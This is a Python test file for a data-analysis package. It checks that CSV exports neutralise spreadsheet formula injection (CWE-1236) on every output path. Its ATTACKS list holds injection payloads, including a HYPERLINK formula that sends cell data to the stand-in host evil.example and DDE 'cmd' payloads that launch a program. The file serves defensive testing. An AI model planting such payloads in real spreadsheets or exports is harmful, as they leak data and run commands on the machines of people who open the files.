"""Spreadsheet formulas in CSV outputs are neutralised (CWE-1236) on every path that writes a
CSV: the analysis datasets, the randomization report, the simulation grid and the dosimetry
study; plain numbers read back unchanged; and no module writes CSV outside ``reluth.csvout``."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reluth.analysis.exports import write_dataset
from reluth.csvout import FORMULA_STARTS, frame_csv_text, neutralise, rows_to_csv

SRC = Path(__file__).resolve().parents[2] / "src" / "reluth"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_each_formula_start_is_written_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0", "-.5", "-1e-3", "12", "3.", "-7E+2"])
def test_plain_numbers_in_text_cells_are_left_alone(number: str) -> None:
    assert neutralise(number) == number


@pytest.mark.parametrize("not_number", ["-1.5.2", "- 1", "-1e", "--1", "-inf", "-nan", "+"])
def test_almost_numbers_are_neutralised(not_number: str) -> None:
    assert neutralise(not_number) == "'" + not_number


@given(st.text(max_size=40))
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    out = neutralise(text)
    if text.startswith(FORMULA_STARTS):
        assert out == text or out == "'" + text
        if out == text:  # only a plain number keeps its sign
            float(text)
    else:
        assert out == text


@given(st.one_of(st.integers(), st.floats(allow_nan=True), st.none(), st.booleans()))
def test_non_text_values_are_unchanged(value: object) -> None:
    assert neutralise(value) is value


def test_dataset_csv_reads_back_the_attack_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"AETERM": [ATTACKS[0], "Nausea", "-1.5"], "AVAL": [-1.5, 2.0, 3.0]})
    path = write_dataset("adae", frame, "csv", tmp_path)
    back = pd.read_csv(path, dtype={"AETERM": str})
    assert back["AETERM"].tolist() == ["'" + ATTACKS[0], "Nausea", "-1.5"]
    assert back["AVAL"].tolist() == [-1.5, 2.0, 3.0]
    assert frame_csv_text(frame) == path.read_text()


def test_report_rows_are_neutralised() -> None:
    text = rows_to_csv(["group", "n"], [{"group": "=1+1", "n": 3}, {"group": "C01", "n": -1}])
    assert pd.read_csv(io.StringIO(text), dtype={"group": str})["group"].tolist() == [
        "'=1+1",
        "C01",
    ]


def test_no_module_writes_csv_outside_csvout() -> None:
    """Every ``DataFrame.to_csv``, ``csv.writer`` or ``csv.DictWriter`` call sits in
    reluth/csvout.py, so no new CSV output can skip the neutralisation."""
    found = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvout.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            attr = node.func.attr
            base = node.func.value
            if attr == "to_csv" or (
                attr in ("DictWriter", "writer") and isinstance(base, ast.Name) and base.id == "csv"
            ):
                found.append(f"{path.relative_to(SRC)}:{node.lineno} {attr}")
    assert found == []
